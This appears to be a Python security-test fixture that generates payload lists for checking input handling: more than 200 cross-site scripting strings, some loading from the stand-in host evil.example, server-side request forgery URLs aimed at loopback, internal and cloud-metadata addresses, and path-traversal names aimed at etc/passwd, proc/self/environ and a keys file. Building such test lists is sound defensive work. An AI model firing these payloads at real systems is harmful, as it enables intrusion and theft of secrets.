"""Strings that would do something where they are not treated as text."""

from urllib.parse import quote

_HANDLERS = ("onerror", "onload", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter", "onbegin")
_TAGS = ("img src=x", "svg", "body", "iframe src=x", "input autofocus", "details open", "video src=x", "audio src=x",
         "marquee", "object data=x", "math", "select autofocus", "textarea autofocus", "style", "a href=x")  # fmt: skip
_WHOLE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "![x](http://evil.example/x.png 'onerror=alert(1)')",
    "[![x](http://evil.example/x.png)](http://evil.example)",
    "<http://evil.example/auto>",
    "http://evil.example/preview",
    "<img src=http://evil.example/pixel.png>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example>",
    "<form action=http://evil.example><button>x</button></form>",
    "<embed src=http://evil.example/x.swf>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='data:image/svg+xml,x#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "{@html '<script>alert(1)</script>'}",
    "$\\href{javascript:alert(1)}{x}$",
    "\\[\\includegraphics{http://evil.example/x.png}\\]",
    "```mermaid\ngraph TD; A-->B; click A 'javascript:alert(1)'\n```",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "\ufe64script\ufe65alert(1)\ufe64/script\ufe65",
    "<details open ontoggle=alert(1)><summary>x",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<div style='background:url(http://evil.example/x.png)'>",
    "<table background=http://evil.example/x.png>",
    "<img srcset='http://evil.example/x.png 1x'>",
    "<picture><source srcset=http://evil.example/x.png></picture>",
    "<video poster=http://evil.example/x.png></video>",
)
XSS = (
    *_WHOLE,
    *(f"<{tag} {handler}=alert(1)>" for tag in _TAGS for handler in _HANDLERS),
    *(f'"{handler}="alert(1)" x="' for handler in _HANDLERS),
    *(quote(text) for text in _WHOLE[:30]),
)
"""More than 200 strings that run, load or lead somewhere where they are taken for HTML, Markdown or a template."""

_LOCAL = ("127.0.0.1", "localhost", "0.0.0.0", "[::1]", "[::]", "127.1", "127.0.1", "2130706433", "0x7f000001",
          "017700000001", "0177.0.0.1", "0x7f.0.0.1", "127.000.000.001", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]",
          "[0:0:0:0:0:0:0:1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "localhost.", "LOCALHOST",
          "127.0.0.1.", "\uff11\uff12\uff17.0.0.1", "127\u30020.0.1", "\u24db\u24de\u24d2alhost")  # fmt: skip
_INSIDE = ("10.0.0.1", "172.16.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1", "198.18.0.1", "192.0.0.1",
           "224.0.0.1", "255.255.255.255", "240.0.0.1", "[fe80::1]", "[fc00::1]", "[fd00:ec2::254]", "[ff02::1]",
           "2852039166", "0xa9fea9fe", "[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]")  # fmt: skip
_ODD = (
    "user@{0}",
    "evil.example@{0}",
    "{0}#@example.com",
    "{0}?@example.com",
    "{0}%23.example.com",
    "{0}\\@example.com",
)
_SCHEMES = (
    "file",
    "ftp",
    "gopher",
    "dict",
    "ldap",
    "tftp",
    "jar",
    "data",
    "javascript",
    "ssh",
    "smb",
    "sftp",
    "netdoc",
    "ws",
)


def addresses(port: int) -> list[str]:
    """Give addresses that lead to this machine or inside, on a port where a canary listens."""
    hosts = [*_LOCAL, *_INSIDE]
    found = [f"{scheme}://{host}:{port}/x" for scheme in ("http", "https", "HTTP") for host in hosts]
    found += [f"http://{odd.format(f'{host}:{port}')}/x" for odd in _ODD for host in _LOCAL[:4]]
    found += [f"{scheme}://127.0.0.1:{port}/x" for scheme in _SCHEMES]
    return [
        *found,
        f"//127.0.0.1:{port}/x",
        f"http:/127.0.0.1:{port}",
        f"http:127.0.0.1:{port}",
        "http://",
        "http:///x",
    ]


_UP = (
    "../",
    "..\\",
    "..%2f",
    "%2e%2e/",
    "%2e%2e%2f",
    "..%5c",
    "....//",
    "..;/",
    "%252e%252e%252f",
    "..%c0%af",
    ".%00./",
    "/..//",
)
_GOALS = ("etc/passwd", "secret.txt", ".mmsdk/keys.sqlite", "proc/self/environ", "windows/win.ini")


def paths() -> list[str]:
    """Give names that would lead out of a folder where they are taken for paths."""
    found = [up * depth + goal for up in _UP for depth in (1, 3, 8) for goal in _GOALS]
    found += [f"/{goal}" for goal in _GOALS] + [f"file:///{goal}" for goal in _GOALS]
    found += [f"shop/../../{goal}" for goal in _GOALS] + [f"shop%2f..%2f..%2f{goal}" for goal in _GOALS]
    return [
        *found,
        ".",
        "..",
        "...",
        ".mmsdk",
        "~",
        "~root",
        "//server/share",
        "C:\\x",
        "\\\\server\\share",
        "shop\x00.txt",
    ]
